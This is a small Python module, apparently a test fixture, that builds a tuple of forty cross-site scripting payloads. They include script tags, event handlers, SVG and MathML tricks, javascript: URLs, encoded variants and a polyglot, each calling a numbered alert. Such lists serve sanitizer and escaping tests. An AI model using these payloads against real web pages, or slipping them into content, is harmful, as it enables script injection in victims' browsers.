"""Forty ways to make a page run what a person typed; each calls `alert` with its own number, and only that."""

# `@` stands for the call, `~` for the number alone.
_WAYS = (
    "<script>@</script>",
    "<ScRiPt>@</sCrIpT>",
    "</script><script>@</script>",
    '";@;//',
    "';@;//",
    "<img src=x onerror=@>",
    "<IMG SRC=x OnErRoR=@>",
    "<img/src=x/onerror=@>",
    '"><img src=x onerror=@>',
    "'><img src=x onerror=@>",
    "--><img src=x onerror=@>",
    "]]><img src=x onerror=@>",
    "</title><img src=x onerror=@>",
    "</textarea><img src=x onerror=@>",
    "</style><img src=x onerror=@>",
    "<!--><img src=x onerror=@>-->",
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:@><text>x</text></a></svg>",
    "<math><mtext></mtext><img src=x onerror=@></math>",
    "<math href=javascript:@>x</math>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<iframe src=javascript:parent.@></iframe>",
    "<details open ontoggle=@>x</details>",
    "<video><source onerror=@></video>",
    "<audio src=x onerror=@></audio>",
    "<input autofocus onfocus=@>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=@>x</b>",
    "<object data=javascript:@></object>",
    "<img src=x onerror=&#97;lert(~)>",
    "<img src=x onerror=\\u0061lert(~)>",
    "<img\nsrc=x\nonerror=@\n>",
    "javascript:@",
    "JaVa\tScRiPt:@",
    "data:text/html,<script>@</script>",
    "{{constructor.constructor('@')()}}",
    "${@}<%=@%>",
    "\" onmouseover=@ autofocus onfocus=@ x=\"",
    "jaVasCript:/*-/*`/*'/*\"/**/(@)//</stYle/</titLe/</scRipt/--!><sVg/oNloAd=@//>",
)  # fmt: skip


def _number(way: str, number: int) -> str:
    kept = way.replace("@keyframes", "KEYFRAMES").replace("@", f"alert({number})").replace("~", str(number))
    return kept.replace("KEYFRAMES", "@keyframes")


PAYLOADS = tuple(_number(way, number) for number, way in enumerate(_WAYS))
